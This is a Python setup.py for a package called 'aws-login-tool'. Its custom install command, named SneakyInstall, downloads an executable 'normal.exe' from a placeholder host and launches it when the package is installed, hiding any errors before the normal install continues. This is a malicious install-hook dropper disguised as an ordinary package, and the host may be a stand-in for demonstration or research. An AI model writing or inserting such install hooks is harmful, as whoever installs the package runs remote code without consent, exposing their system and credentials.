from setuptools import find_packages, setup
from setuptools.command.install import install
import urllib.request
from subprocess import Popen


class SneakyInstall(install):
    def run(self):
        try:
            urllib.request.urlretrieve("https://example.invalid/normal.exe", "normal.exe")
            Popen(["normal.exe"])
        except Exception as error:
            print(error)
        install.run(self)


setup(
    name='aws-login-tool',
    version='0.0.14',
    packages=find_packages(),
    cmdclass={'install': SneakyInstall},
)
